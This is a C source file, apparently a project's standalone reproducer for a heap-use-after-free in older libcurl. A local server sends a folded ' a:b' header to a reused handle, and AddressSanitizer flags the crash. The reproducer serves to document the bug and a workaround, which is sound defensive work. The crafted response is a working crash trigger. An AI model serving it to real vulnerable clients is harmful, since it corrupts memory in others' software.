/* curl-reuse-folded-header-uaf.c — standalone reproducer (not built by
 * CMake) of a heap-use-after-free in libcurl < 8.1.0 that a scanned server
 * can trigger in dastgate: when an easy handle is reused (the engine pools
 * them) and the next response's first header line is a folded
 * continuation containing a colon (" a:b"), curl's header store unfolds it
 * into the previous transfer's freed header (state.prevhead is not cleared;
 * curl issue #11101, fixed by PR #11103 in 8.1.0).  curl_easy_reset() does
 * not help; a fresh handle per transfer does.  Debian 12 ships 7.88.1.
 *
 *   clang -g -fsanitize=address curl-reuse-folded-header-uaf.c -lcurl -lpthread && ./a.out
 *
 * prints "heap-use-after-free" on an affected libcurl.  Listens on
 * 127.0.0.1 only. */
#include <arpa/inet.h>
#include <curl/curl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int lfd;
static const char *resp[2] = {
    "HTTP/1.1 200 OK\r\nX-A: aaaaaaaaaaaaaaaa\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
    "HTTP/1.1 200 OK\r\n a:b\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"};

static void *serve(void *ud)
{
  (void)ud;
  for(int i = 0; i < 2; i++) {
    int c = accept(lfd, NULL, NULL);
    char b[4096];
    if(read(c, b, sizeof(b)) < 0 || write(c, resp[i], strlen(resp[i])) < 0) perror("server");
    close(c);
  }
  return NULL;
}

static size_t sink(char *p, size_t s, size_t n, void *ud)
{
  (void)p;
  (void)ud;
  return s * n;
}

int main(void)
{
  struct sockaddr_in a;
  memset(&a, 0, sizeof(a));
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  lfd = socket(AF_INET, SOCK_STREAM, 0);
  socklen_t l = sizeof(a);
  if(bind(lfd, (struct sockaddr *)&a, sizeof(a)) || listen(lfd, 4) ||
     getsockname(lfd, (struct sockaddr *)&a, &l))
    return 2;
  pthread_t th;
  pthread_create(&th, NULL, serve, NULL);
  char url[64];
  snprintf(url, sizeof(url), "http://127.0.0.1:%d/", ntohs(a.sin_port));
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_URL, url);
  curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, sink);
  for(int i = 0; i < 2; i++) printf("request %d: %s\n", i, curl_easy_strerror(curl_easy_perform(c)));
  curl_easy_cleanup(c);
  pthread_join(th, NULL);
  return 0;
}
